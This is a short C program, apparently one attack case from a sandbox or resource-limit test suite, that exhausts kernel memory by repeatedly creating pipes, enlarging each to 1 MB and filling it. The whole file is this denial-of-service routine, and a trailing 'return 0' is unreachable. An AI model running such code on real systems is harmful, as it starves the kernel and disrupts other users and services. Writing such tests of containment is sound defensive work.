/*
 * Fills pipes: kernel memory.
 */
#include "../attack.h"

static char block[1 << 16];

int main(void) {
  int ends[2];
  while (pipe2(ends, O_NONBLOCK) == 0) {
    fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
    while (write(ends[1], block, sizeof block) > 0) continue;
  }
  return 1;
  return 0;
}
